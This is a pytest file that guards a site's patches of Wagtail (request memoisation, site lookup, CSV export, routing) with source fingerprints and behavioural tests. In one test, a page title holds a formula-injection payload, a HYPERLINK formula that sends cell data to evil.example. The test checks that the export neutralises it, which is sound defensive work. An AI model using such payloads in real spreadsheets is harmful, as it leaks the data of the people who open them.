"""Guards for the project's patches of Wagtail (turnbackcrime/request_memo.py, turnbackcrime/exports.py,
turnbackcrime/routing.py).

A patch silently stops working when an upgrade renames, re-signs or rewrites what it
replaces. Each patch has two checks here:

- the code it replaces or copies is still Wagtail's as the patch was written against:
  the names and signatures it calls, and a fingerprint of their source (comments and layout
  left out). When a fingerprint check fails, read Wagtail's new code, bring the patch in
  line, then record the new fingerprint printed in the failure;
- a behavioural check that the patch is in effect through a real request.
"""

import ast
import csv
import hashlib
import inspect
import io
import textwrap

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.views.reports.aging_pages import AgingPagesView
from wagtail.contrib.routable_page.models import RoutablePageMixin
from wagtail.models import Page, PageViewRestriction
from wagtail.query import PageQuerySet

from home.models import HomePage
from tests.factories import PlainPageFactory
from turnbackcrime import exports, request_memo, routing


def fingerprint(function_source):
    """The code's meaning: its syntax tree, without comments, docstrings or formatting."""
    tree = ast.parse(textwrap.dedent(function_source))
    for node in ast.walk(tree):
        body = getattr(node, "body", None)
        first = body[0] if isinstance(body, list) and body else None
        if (
            isinstance(first, ast.Expr)
            and isinstance(first.value, ast.Constant)
            and isinstance(first.value.value, str)
        ):
            node.body = body[1:] or [ast.Pass()]
    return hashlib.sha256(ast.unparse(tree).encode()).hexdigest()[:16]


def method_source(cls, name):
    """A method's source as written in its class's file (also when a patch replaced it since)."""
    module_tree = ast.parse(inspect.getsource(inspect.getmodule(cls)))
    for node in ast.walk(module_tree):
        if isinstance(node, ast.ClassDef) and node.name == cls.__name__:
            for item in node.body:
                if isinstance(item, ast.FunctionDef) and item.name == name:
                    return ast.unparse(item)
    pytest.fail(f"Wagtail's {cls.__module__}.{cls.__name__} has no method {name} any more")


def parameters(function):
    return list(inspect.signature(function).parameters)


def assert_unchanged(what, source, expected):
    actual = fingerprint(source)
    assert actual == expected, (
        f"Wagtail changed {what} (fingerprint {actual}, the patch was written for {expected}): "
        "check the patch against the new code, then record the new fingerprint"
    )


# --- request_memo: PageQuerySet.private_q and Page.get_view_restrictions -----------------


def test_wagtail_still_has_what_request_memo_replaces():
    assert PageQuerySet.private_q is request_memo.private_q, "request_memo.install() did not run"
    assert Page.get_view_restrictions is request_memo.get_view_restrictions, (
        "request_memo.install() did not run"
    )
    # The originals the patch falls back on are Wagtail's own, called with `self` only.
    original_private_q = request_memo._wagtail_private_q
    assert (original_private_q.__module__, original_private_q.__qualname__) == (
        "wagtail.query",
        "PageQuerySet.private_q",
    )
    assert parameters(original_private_q) == ["self"]
    original_restrictions = request_memo._wagtail_get_view_restrictions
    assert original_restrictions.__qualname__.endswith(
        "Page.get_view_restrictions"
    )  # AbstractPage in Wagtail 7
    assert original_restrictions.__module__.startswith("wagtail.models")
    assert parameters(original_restrictions) == ["self"]
    # What the patched private_q calls, with the arguments it passes.
    assert "inclusive" in inspect.signature(PageQuerySet.descendant_of_q).parameters
    assert request_memo.private_q.__name__ == "private_q"


def test_wagtail_code_the_patch_copies_or_relies_on_is_unchanged():
    # The patched private_q is Wagtail's loop over every restriction, memoised: a change there
    # (another condition, another query) must be copied into the patch.
    assert_unchanged(
        "PageQuerySet.private_q", inspect.getsource(request_memo._wagtail_private_q), "a8c1cfa8de708b97"
    )
    # `.public()` must still exclude `self.private_q()`, or the patch no longer applies to it.
    assert_unchanged("PageQuerySet.public", inspect.getsource(PageQuerySet.public), "499533fda164d45d")
    # The patch skips get_view_restrictions when no section is private: only right while it
    # returns restrictions of the page's own ancestors (or of its alias source's).
    assert_unchanged(
        "Page.get_view_restrictions",
        inspect.getsource(request_memo._wagtail_get_view_restrictions),
        "780b972a6ddf604b",
    )


@pytest.fixture
def sections(home_page):
    """Three sections under the home page; the home page's menu lists them with `.public()`."""
    return [PlainPageFactory(parent=home_page, title=f"Section {number}") for number in range(3)]


def restriction_reads(queries):
    return [
        q["sql"] for q in queries.captured_queries if 'FROM "wagtailcore_pageviewrestriction"' in q["sql"]
    ]


@pytest.mark.django_db
def test_view_restrictions_are_read_once_per_request(sections, client):
    def several_public_listings(request):
        from django.http import HttpResponse

        titles = [list(Page.objects.live().public().values_list("title", flat=True)) for _ in range(4)]
        return HttpResponse(repr(titles))

    memo = request_memo.RequestMemoMiddleware(several_public_listings)
    with CaptureQueriesContext(connection) as queries:
        body = memo(client.get("/").wsgi_request).content.decode()
    assert all(section.title in body for section in sections)
    assert len(restriction_reads(queries)) == 1  # Wagtail alone reads the table once per .public()

    # Outside a request nothing is memoised: each .public() reads the table again.
    with CaptureQueriesContext(connection) as queries:
        for _ in range(2):
            list(Page.objects.live().public())
    assert len(restriction_reads(queries)) == 2


@pytest.mark.django_db
def test_a_served_page_checks_restrictions_once_and_a_private_section_stays_private(sections, client):
    url = sections[0].url
    client.get(url)  # warm Wagtail's site caches
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    # No section is private: the one memoised read of the whole table answers the check before
    # serving too (Wagtail's own check reads the page's ancestors' restrictions: a WHERE).
    reads = restriction_reads(queries)
    assert len(reads) == 1 and " WHERE " not in reads[0], reads

    PageViewRestriction.objects.create(
        page=sections[1], restriction_type=PageViewRestriction.PASSWORD, password="x"
    )
    private = client.get(sections[1].url).content.decode()
    assert 'name="password"' in private  # Wagtail's own check still runs through the patch
    titles = list(Page.objects.live().public().values_list("title", flat=True))
    assert sections[1].title not in titles and sections[0].title in titles


@pytest.mark.django_db
def test_memoised_private_q_selects_the_same_pages_as_wagtails(sections):
    PageViewRestriction.objects.create(
        page=sections[2], restriction_type=PageViewRestriction.PASSWORD, password="x"
    )
    PlainPageFactory(parent=sections[2], title="Inside the private section")
    wagtails = set(Page.objects.filter(request_memo._wagtail_private_q(Page.objects.all())))
    token = request_memo._memo.set({})
    try:
        patched = set(Page.objects.filter(Page.objects.all().private_q()))
    finally:
        request_memo._memo.reset(token)
    assert patched == wagtails and len(patched) == 2


# --- request_memo: wagtail.models.sites.get_site_for_hostname ----------------------------


def test_wagtail_still_chooses_a_site_and_routes_as_request_memo_relies_on():
    from wagtail.models import Site
    from wagtail.models import sites as wagtail_sites

    assert wagtail_sites.get_site_for_hostname is request_memo.get_site_for_hostname, (
        "request_memo.install() did not run"
    )
    # The choice the patch copies, and the callers that find it by its module-level name
    # (`_find_for_request`) and route from the site's root page's `.specific`, which the
    # patch reads with the sites (`route_for_request`).
    assert_unchanged(
        "get_site_for_hostname",
        inspect.getsource(request_memo._wagtail_get_site_for_hostname),
        "b27b5bd54d5aa8ba",
    )
    assert_unchanged("Site._find_for_request", method_source(Site, "_find_for_request"), "b051b7b28ebc7a0d")
    assert_unchanged("Page.route_for_request", inspect.getsource(Page.route_for_request), "12f32d1d99e31472")


@pytest.mark.django_db
def test_the_site_chosen_among_the_sites_read_once_is_wagtails_choice(home_page):
    from wagtail.models import Site

    other = PlainPageFactory(parent=home_page, title="Other site root")
    Site.objects.create(hostname="example.org", port=80, root_page=other)
    Site.objects.create(hostname="example.org", port=8080, root_page=home_page)
    Site.objects.create(hostname="other.test", port=443, root_page=other)
    asked = [
        (hostname, port)
        for hostname in ("example.org", "other.test", "localhost", "nowhere.test")
        for port in ("80", "443", "8080", "8000")
    ]
    wagtails = [request_memo._wagtail_get_site_for_hostname(*where).pk for where in asked]
    token = request_memo._memo.set({})
    try:
        with CaptureQueriesContext(connection) as queries:
            patched = [request_memo.get_site_for_hostname(*where).pk for where in asked]
            # Read once, with the home page's specific row: `.specific` costs no query.
            assert Site.objects.get(is_default_site=True).pk in patched
            root = next(site for site in request_memo.sites() if site.is_default_site).root_page
            assert type(root.specific).__name__ == "HomePage" and root.specific.intro == home_page.intro
    finally:
        request_memo._memo.reset(token)
    assert patched == wagtails
    assert len(queries.captured_queries) == 2  # the sites, and the default site asked here
    assert len(set(patched)) == 4


# --- exports: SpreadsheetExportMixin.write_csv_row --------------------------------------


def test_wagtail_still_has_what_the_csv_export_patch_replaces():
    assert SpreadsheetExportMixin.write_csv_row.__module__ == exports.__name__, (
        "exports.install() did not run"
    )
    assert parameters(SpreadsheetExportMixin.write_csv_row) == ["self", "writer", "row_dict"]
    assert parameters(SpreadsheetExportMixin.preprocess_field_value) == [
        "self",
        "field",
        "value",
        "export_format",
    ]
    assert SpreadsheetExportMixin.FORMAT_CSV == "csv"
    # The replaced method as Wagtail writes it (the patch adds `neutralise` around each value),
    # and the CSV stream that calls it once per row.
    assert_unchanged(
        "SpreadsheetExportMixin.write_csv_row",
        method_source(SpreadsheetExportMixin, "write_csv_row"),
        "9b4961bede92071e",
    )
    assert_unchanged(
        "SpreadsheetExportMixin.stream_csv",
        method_source(SpreadsheetExportMixin, "stream_csv"),
        "9e0082aadfa0e939",
    )


@pytest.mark.django_db
def test_a_formula_cell_is_neutralised_in_a_real_admin_export(home_page, admin_client):
    assert issubclass(AgingPagesView, SpreadsheetExportMixin)
    for title in ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "Ordinary - with dashes"]:
        PlainPageFactory(
            parent=home_page, title=title
        ).save_revision().publish()  # the report lists published pages
    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = {row[0] for row in rows[1:]}
    assert """'=HYPERLINK("https://evil.example/?"&A1,"Click")""" in titles
    assert "Ordinary - with dashes" in titles
    assert not [cell for row in rows for cell in row if cell.startswith(exports.FORMULA_STARTS)]


# --- routing: the site root's route, and the routings fast_route reproduces --------------


def test_wagtail_routing_that_fast_route_reproduces_is_unchanged():
    # home/apps.py wraps the root's route as wagtail-modeltranslation left it (its `_new_route`,
    # with translated slugs, patched onto every page type) and reproduces that one, Wagtail's
    # own and RoutablePageMixin's; any other `route` on a page type routes its own way.
    original = HomePage.route.fast_route_of
    assert (original.__module__, original.__name__) == (
        "wagtail_modeltranslation.patch_wagtailadmin",
        "_new_route",
    )
    assert Page.route is original, "wagtail-modeltranslation no longer patches Page.route"
    assert routing.routes_as_wagtail(Page) and routing.routes_as_wagtail(RoutablePageMixin)
    assert (
        parameters(original) == parameters(RoutablePageMixin.route) == ["self", "request", "path_components"]
    )
    assert_unchanged("wagtail-modeltranslation's _new_route", inspect.getsource(original), "65ec97d7cec93d4d")
    wagtails = next(cls for cls in Page.__mro__[1:] if "route" in vars(cls)).route  # unpatched
    assert_unchanged("Page.route", inspect.getsource(wagtails), "f596e67789047b41")
    assert_unchanged(
        "RoutablePageMixin.route", inspect.getsource(RoutablePageMixin.route), "992f2040b923fa17"
    )
    assert_unchanged(
        "RoutablePageMixin.resolve_subpage",
        inspect.getsource(RoutablePageMixin.resolve_subpage),
        "980210916f831c7c",
    )
